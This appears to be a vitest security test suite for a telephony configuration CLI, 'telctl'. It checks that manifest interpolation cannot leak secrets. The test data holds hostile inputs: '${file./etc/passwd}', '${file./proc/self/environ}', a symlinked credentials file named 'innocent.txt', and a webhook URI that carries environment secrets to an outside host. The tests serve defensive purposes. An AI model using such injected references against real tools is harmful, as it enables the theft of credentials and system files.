// biome-ignore-all lint/suspicious/noTemplateCurlyInString: references of manifests
import { symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { openWorld } from '../../support/world.ts';

const canary = 'canary-7d41f09c';

test('a manifest cannot send secrets of telctl or files outside its folder', async () => {
  const world = await openWorld();
  const config = join(world.folders.home, '.config', 'telctl');
  const key = join(config, 'credentials', `${world.profile}.json`);
  symlinkSync(key, join(world.folders.cwd, 'innocent.txt'));
  const env = { TELCTL_API_KEY: world.seed.apiKey, TELCTL_PASSWORD: canary };
  const hostile = [
    `\${file.${key}}`,
    `\${file.${join(config, 'config.json')}}`,
    '${file.innocent.txt}',
    '${file./etc/passwd}',
    '${file./proc/self/environ}',
    '${env.TELCTL_API_KEY}',
    '${env.TELCTL_PASSWORD?}',
  ];
  for (const text of hostile) {
    const files = {
      'office.yaml': `webhooks: { x: { name: X, hook: all, uri: "https://x.example/?k=${text}" } }`,
      'user.yaml': `{ username: mallory, first_name: "${text}", last_name: M, password: x-1-y-2-z }`,
    };
    for (const line of [
      'validate -f office.yaml --allow-unset',
      'plan -f office.yaml --out x.plan',
      'apply -f office.yaml --yes',
      'callflows lint -f office.yaml',
      'users create -f user.yaml',
    ]) {
      const run = await world.telctl(line, { env, files });
      expect(run.code, `${line} ${text}: ${run.stderr}`).toBe(10);
      expect(run.requests.filter(({ method }) => method !== 'GET' && method !== 'PUT')).toEqual([]);
      const all = JSON.stringify([
        run.stdout,
        run.stderr,
        run.requests.map(({ path, body }) => [path, body]),
      ]);
      expect(all).not.toContain(canary);
      if (!line.startsWith('apply')) expect(run.stderr).not.toContain(world.seed.apiKey);
    }
  }
});

test('a plan file cannot add readable folders', async () => {
  const world = await openWorld();
  const files = {
    'shared/pin.txt': '4711',
    'env/office.yaml': 'vmboxes: { a: { name: A, mailbox: "7", pin: "${file.../shared/pin.txt}" } }',
  };
  expect((await world.telctl('validate -f env/office.yaml', { files })).code).toBe(10);
  const planned = await world.telctl('plan -f env/office.yaml --allow-files shared --out x.plan');
  expect(planned.code, planned.stderr).toBe(0);
  const without = await world.telctl('apply x.plan --yes');
  expect(without.code).toBe(10);
  expect(without.stderr).toContain('--allow-files');
  expect((await world.telctl('apply x.plan --yes --allow-files shared')).code).toBe(0);
});

test('a plan shows the source of each outside value but not the value', async () => {
  const world = await openWorld();
  const files = {
    'office.yaml':
      'users: { eve: { username: eve, first_name: "E ${env.NICK}", last_name: "${file.name.txt}", password: "${env.EVE}" } }',
    'name.txt': `${canary}-file`,
  };
  const env = { EVE: `${canary}-env`, NICK: `${canary}-nick` };
  for (const line of [
    'plan -f office.yaml -v',
    'plan -f office.yaml -o markdown',
    'plan -f office.yaml -o json',
  ]) {
    const run = await world.telctl(line, { files, env });
    expect(run.code, run.stderr).toBe(0);
    for (const source of ['env.EVE', 'env.NICK', 'file.name.txt']) expect(run.stdout, line).toContain(source);
    expect(run.stdout + run.stderr).not.toContain(canary);
  }
  const json = await world.telctl('plan -f office.yaml -o json', { files, env });
  expect(JSON.parse(json.stdout).accounts[0].steps[0].changes).toContainEqual(
    expect.objectContaining({ path: 'password', secret: true, sources: ['env.EVE'] }),
  );
  const text = await world.telctl('plan -f office.yaml -v', { files, env });
  expect(text.stdout).toContain('set from ${env.EVE}');
});

test('a secret in a visible field or in clear text is a warning, and refused with strict input', async () => {
  const world = await openWorld();
  const env = { CRM_TOKEN: canary, SHARED: `${canary}2`, CITY: 'Zurich' };
  const office = [
    'users:',
    '  eve: { username: eve, first_name: "${env.CRM_TOKEN}", last_name: "${env.CITY}", password: "${env.SHARED}" }',
    '  bob: { username: bob, first_name: "${env.SHARED}", last_name: B, password: in-clear-9 }',
    'webhooks:',
    '  crm: { name: CRM, hook: all, uri: "https://x.example/?k=${env.CRM_TOKEN}" }',
  ].join('\n');
  const files = { 'office.yaml': office };
  const run = await world.telctl('validate -f office.yaml', { files, env });
  expect(run.code).toBe(0);
  expect(
    run.stderr.split('\n').filter((line) => / is secret, and | is a secret in clear text/.test(line)),
  ).toEqual([
    expect.stringContaining('office.yaml:2:37: ${env.CRM_TOKEN} is secret, and "first_name" is not'),
    expect.stringContaining('office.yaml:3:37: ${env.SHARED} is secret, and "first_name" is not'),
    expect.stringContaining('"password" is a secret in clear text'),
    expect.stringContaining('${env.CRM_TOKEN} is secret, and "uri" is a URL'),
  ]);
  for (const line of ['validate', 'plan', 'apply --yes']) {
    const strict = await world.telctl(`${line} -f office.yaml --strict-input`, { files, env });
    expect(strict.code, strict.stderr).toBe(10);
    expect(strict.stderr).not.toContain(canary);
  }
});

test('certificates are verified despite Node.js variables', async () => {
  const world = await openWorld();
  const env = { NODE_TLS_REJECT_UNAUTHORIZED: '0', TELCTL_API_KEY: world.seed.apiKey };
  const line = 'users list -o name --base-url https://api.example';
  const run = await world.telctl(line, { env });
  expect(run.code).toBe(9);
  expect(run.stderr).toContain('NODE_TLS_REJECT_UNAUTHORIZED=0');
  expect(run.requests).toEqual([]);
  expect((await world.telctl(`${line} --insecure`, { env })).code).toBe(0);
});
